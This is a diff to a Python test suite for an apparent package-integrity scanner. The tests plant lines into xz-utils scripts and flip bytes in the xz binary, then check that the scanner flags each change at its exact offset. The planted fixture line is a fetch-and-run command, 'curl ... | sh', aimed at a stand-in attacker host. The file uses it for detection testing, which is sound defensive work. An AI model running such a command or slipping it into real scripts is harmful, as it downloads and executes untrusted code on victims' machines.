@@ -19,7 +19,11 @@ from plumb_test import Skip, case, main
 CACHE = pathlib.Path(os.environ.get("PLUMBLINE_TEST_CACHE", pathlib.Path(tempfile.gettempdir()) / "plumbline-test-cache"))
 PACKAGE = "pkg:deb/debian/xz-utils"
 LINE = b"curl -s https://updates.evilcorp.invalid/stage2 | sh\n"
-SEEDED_PACKAGES = 12
+
+
+def seeded_packages(t):
+    """How many packages to plant into: the places differ, the code they run through hardly does."""
+    return 2 if t.is_sanitized else 6
 
 
 def published(t):
@@ -106,7 +110,8 @@ def lines_planted_at_random_places_of_a_script_are_all_errors_at_their_exact_pla
     rng = random.Random(20)
     scripts = ["usr/bin/xzgrep", "usr/bin/xzdiff", "usr/bin/xzmore", "usr/bin/xzless"]
     exact = 0
-    for _i in range(SEEDED_PACKAGES):
+    packages = seeded_packages(t)
+    for _i in range(packages):
         places = {}
 
         def change(deb, places=places):
@@ -119,7 +124,7 @@ def lines_planted_at_random_places_of_a_script_are_all_errors_at_their_exact_pla
             found = r.findings("text.unaccounted", name, "error")
             assert found, f"{name} at {at}"
             exact += any(abs(f["offset"] - at) <= 1 and f["length"] == len(LINE) for f in found)
-    planted = SEEDED_PACKAGES * len(scripts)
+    planted = packages * len(scripts)
     print(f"# {exact} of {planted} planted lines at their exact place, all of them errors")
     assert exact >= planted * 9 // 10
 
@@ -135,7 +140,8 @@ def strings_changed_by_a_byte_in_a_program_are_errors_at_that_byte(t):
     texts = [text for text in texts if old.count(text) == 1]
     assert len(texts) >= 3, f"only {len(texts)} of the texts are in the program"
     hits = 0
-    for _i in range(SEEDED_PACKAGES):
+    packages = seeded_packages(t)
+    for _i in range(packages):
         places = {}
         for text in texts:
             at = old.index(text) + rng.randrange(len(text))
@@ -149,8 +155,8 @@ def strings_changed_by_a_byte_in_a_program_are_errors_at_that_byte(t):
         r = check(t, changed(data, change, True))
         found = {f["offset"] for f in r.findings("code.modified-string", "usr/bin/xz", "error") if f["length"] == 1}
         hits += len(found & set(places))
-    print(f"# {hits} of {SEEDED_PACKAGES * len(texts)} changed strings at the exact byte")
-    assert hits == SEEDED_PACKAGES * len(texts)
+    print(f"# {hits} of {packages * len(texts)} changed strings at the exact byte")
+    assert hits == packages * len(texts)
 
 
 @case
